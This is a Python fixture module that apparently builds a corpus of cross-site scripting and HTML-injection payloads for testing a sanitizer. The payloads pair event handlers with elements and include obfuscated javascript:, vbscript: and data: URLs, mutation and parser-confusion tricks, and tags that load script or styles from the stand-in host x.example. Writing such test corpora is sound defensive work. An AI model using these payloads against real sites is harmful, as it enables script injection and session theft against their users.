# ruff: noqa: E501 – an attack is one line
"""Texts by which somebody might try to run, load or style something in a reader's browser."""

from itertools import product

ELEMENTS = (
    "svg",
    "img src=x",
    "video",
    "audio src=x",
    "details open",
    "input autofocus",
    "marquee",
    "p",
    "a href=/",
    "td",
)
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "OnPointerEnter")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd", "\x01javascript:alert(1)", "feed:javascript:alert(1)",
)  # fmt: skip
PLACES = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>',
    '<base href="{}">',
)
WHOLE = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\x0c>alert(1)</script>",
    "<style>@import 'http://x.example/x.css'</style>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=position:fixed;top:0>x</p>", "<link rel=stylesheet href=//x.example>", "<meta http-equiv=refresh content='0;url=//x'>",
    "<object data=//x.example></object>", "<embed src=//x.example>", "<applet code=x>", "<template><script>1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<textarea><script>1</script></textarea>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>", "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>'/></svg>", "<svg><foreignObject><iframe onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:1?>",
    "<p class='evil' id=login name=x data-hx-get=/ hx-on:click=alert(1)>x</p>", "<table background=javascript:alert(1)>",
    "<a href=/ target=_blank ping=//x.example>x</a>", "<img src='x' srcset='//x.example 1x'>", "<p hx-get=/desk/ hx-trigger=load>x</p>",
    "<xmp><script>alert(1)</script></xmp>", "<title><img src=x onerror=alert(1)></title>", "<body onload=alert(1)>",
    "<p><a href='https://x.example/\"onmouseover=alert(1) x='>x</a>", "<isindex action=javascript:alert(1)>", "<frameset onload=alert(1)>",
)  # fmt: skip
ATTACKS = (
    *(f"<{element} {event}=alert(1)>文字" for element, event in product(ELEMENTS, EVENTS)),
    *(place.format(scheme) for place, scheme in product(PLACES, SCHEMES)),
    *WHOLE,
)
